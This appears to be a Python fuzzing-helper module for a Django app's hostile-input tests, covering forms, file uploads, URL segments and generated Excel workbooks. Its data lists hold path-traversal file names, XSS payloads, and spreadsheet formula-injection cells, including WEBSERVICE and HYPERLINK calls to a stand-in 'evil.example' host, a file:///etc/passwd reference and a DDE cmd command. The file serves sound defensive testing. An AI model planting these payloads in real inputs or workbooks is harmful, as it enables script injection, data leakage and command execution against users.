"""Fuzzing helpers shared by the hostile-input tests of surveys, scoring and news.

`targets_of` reads a page's own HTML forms (a new field is fuzzed without editing a test);
`fuzz` lets hypothesis fill a random subset of their fields (and file inputs) with hostile
values and asserts no 500 and no unescaped reflection; `fuzz_paths` does the same for URL
segments. Same idea as test_hostile_input.py, with a per-test example budget and files.
"""

import io
import zipfile
from urllib.parse import quote

from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from .helpers import XSS_ATTR, assert_safe, forms_in, hostile

SKIP_ACTIONS = ("/i18n/", "/tai-khoan/logout/", "/tai-khoan/dang-xuat/")


def budget(examples: int):
    return settings(
        max_examples=examples,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
        database=None,
    )


def targets_of(client, url: str, extra: tuple[str, ...] = ()) -> list:
    """(method, action, {field: default}, [file fields]) for every form of the page at `url`,
    plus a GET of `url` with the `extra` query parameters the view reads outside its forms."""
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    targets = []
    for form in forms_in(response.content.decode()):
        action = form.action or url
        if not action.startswith("/"):
            action = url
        if action.startswith(SKIP_ACTIONS) or "logout" in action:
            continue
        fields = {k: v for k, v in form.fields.items() if k != "csrfmiddlewaretoken"}
        if form.method == "post":
            targets.append(("post", action, fields, list(form.files)))
        else:
            targets.append(("get", action.split("?")[0], fields, []))
    if extra:
        targets.append(("get", url.split("?")[0], dict.fromkeys(extra, ""), []))
    return targets


def _xlsx_like(payload: bytes) -> bytes:
    """A ZIP that claims to be a workbook but holds junk (or a broken sheet)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", payload[:200] or b"<x/>")
        z.writestr("xl/workbook.xml", b"<workbook>" + payload[:500])
        z.writestr("xl/worksheets/sheet1.xml", payload)
    return out.getvalue()


FILE_NAMES = st.one_of(
    st.sampled_from(
        [
            "a.xlsx",
            "../../etc/passwd.xlsx",
            "..\\..\\x.pdf",
            "anh.png",
            "x.svg",
            "x.html",
            "Đăng ký.xlsx",
            "a\x00b.xlsx",
            '"><img src=x onerror=alert(1)>.xlsx',
            "A" * 400 + ".xlsx",
            ".xlsx",
        ]
    ),
    st.text(min_size=1, max_size=40).map(lambda s: s + ".xlsx"),
)
FILE_CONTENTS = st.one_of(
    st.binary(max_size=2000),
    st.binary(max_size=500).map(_xlsx_like),
    st.sampled_from(
        [
            b"",
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            b"<html><script>alert(1)</script></html>",
            b"%PDF-1.4\n%%EOF\n",
            b"\x89PNG\r\n\x1a\n" + b"\x00" * 40,
        ]
    ),
)


def fuzz(
    client, targets, *, examples: int = 12, per_target: int = 6, prepare=None, htmx: bool = False
) -> None:
    """Post / get random hostile values into random subsets of each target's fields.

    `prepare(method, action, values)` may rewrite the request (e.g. follow a moving URL);
    with `htmx`, half the requests carry the HX-Request header (views answer with partials).
    The budget grows with the number of targets (`per_target` examples each on average)."""
    assert targets
    examples = max(examples, per_target * len(targets))

    @budget(examples)
    @given(data=st.data())
    def run(data):
        method, action, fields, files = data.draw(st.sampled_from(targets))
        values = {}
        for name, default in fields.items():
            if data.draw(st.booleans()):
                values[name] = data.draw(hostile)
            elif default is not None:
                values[name] = default
        for name in files:
            if data.draw(st.booleans()):
                values[name] = SimpleUploadedFile(
                    data.draw(FILE_NAMES).replace("\x00", "") or "x",
                    data.draw(FILE_CONTENTS),
                )
        if prepare is not None:
            action = prepare(method, action, values)
        headers = {"HX-Request": "true"} if htmx and data.draw(st.booleans()) else {}
        cache.clear()  # stay under the rate limits: these tests are about input, not volume
        if method == "post":
            response = client.post(action, values, headers=headers)
        else:
            response = client.get(action, values, headers=headers)
        assert_safe(response)

    run()


def fuzz_paths(client, templates: list[str], *, examples: int = 12, post: bool = False) -> None:
    """Hostile text in a URL segment: GET (and POST) never give a 500 nor reflect it raw."""

    @budget(examples)
    @given(
        template=st.sampled_from(templates),
        value=st.one_of(
            hostile,
            st.sampled_from(["0", "-1", "9" * 25, "2147483648", "1e3", "²", "１", "-"]),
        ).filter(lambda v: v.strip(" ./\\") != ""),
    )
    def run(template, value):
        url = template.format(quote(value[:2000], safe=""))
        cache.clear()
        assert_safe(client.get(url))
        if post:
            assert_safe(client.post(url, {"x": value[:100]}))

    run()


# Values random text rarely produces but databases and number parsers care about.
SWEEP = (
    "9" * 20,
    "2147483648",
    "1e309",
    "NaN",
    "1E+999999",
    "2024-02-30",
    "a\x00b",
    XSS_ATTR,
)


def sweep(client, targets, *, values=SWEEP, headers=None) -> None:
    """Deterministic pass: for each target and value, one request with every field set to the
    value and one where fields carrying a value in the page (buttons, hidden ids) keep it."""
    for method, action, fields, _files in targets:
        modes = (False, True) if any(fields.values()) else (False,)
        for value in values:
            for keep in modes:
                data = {
                    name: default if keep and default else value for name, default in fields.items()
                }
                cache.clear()
                send = client.post if method == "post" else client.get
                response = send(action, data, headers=headers or {})
                assert response.status_code < 500, (action, value, keep, response.status_code)
                assert_safe(response)
        # one field at a time (the others as the page has them): a huge number or a NUL (in a
        # multipart post) reaches the database only when nothing else in the form fails first
        for name in fields:
            for value in ("9" * 20, "a\x00b"):
                data = {k: v for k, v in fields.items() if v is not None}
                data[name] = value
                cache.clear()
                send = client.post if method == "post" else client.get
                response = send(action, data, headers=headers or {})
                assert response.status_code < 500, (action, name, value, response.status_code)


# Cell values of a hostile workbook: text, numbers a column cannot hold, formulas (some
# reaching outside the workbook), dates.
CELLS = st.one_of(
    hostile.map(lambda v: v[:32000]),  # Excel's cell limit; openpyxl refuses more
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(
        [
            "=1+1",
            "=[1]Sheet1!A1",
            "='file:///etc/passwd'#$A1",
            '=HYPERLINK("http://evil.example/","x")',
            '=WEBSERVICE("http://evil.example/")',
            "=cmd|' /C calc'!A0",
            "@SUM(1)",
            "+1",
            "9" * 40,
        ]
    ),
    st.dates(),
)


def workbook_bytes(rows: list[list]) -> bytes:
    """An .xlsx of `rows`, strings that XML cannot hold (control characters) dropped."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()
